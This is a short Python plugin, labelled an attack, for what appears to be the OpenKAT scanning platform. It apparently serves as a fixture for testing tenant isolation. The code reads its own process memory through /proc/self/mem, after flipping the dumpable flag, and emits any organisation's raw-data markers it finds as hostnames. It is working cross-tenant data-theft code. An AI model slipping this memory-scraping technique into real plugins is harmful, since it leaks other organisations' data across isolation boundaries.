"""Attack: a normalizer that reads its whole memory for any organisation's raw marker
(``kat-raw-<org>-…``) and yields one Hostname per marker it finds."""

import ctypes
import re

from kat.ooi import Hostname, Network

PATTERN = re.compile(rb"kat-raw-[a-z]+-[0-9a-f]{8,}")
CHUNK = 8 << 20


def scan() -> set[str]:
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: so /proc/self/mem opens
    found = set()
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", 0) as mem:
        for fields in regions:
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or fields[-1] in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
                continue
            for offset in range(start, end, CHUNK):
                try:
                    mem.seek(offset)
                    data = mem.read(min(CHUNK + 64, end - offset))
                except (OSError, ValueError, OverflowError):
                    break
                found.update(m.decode() for m in PATTERN.findall(data))
    return found


def run(input_ooi: dict, raw: bytes):
    network = Network(name="internet")
    for marker in sorted(scan()):
        yield Hostname(network=network, name=f"{marker}.scan.test")
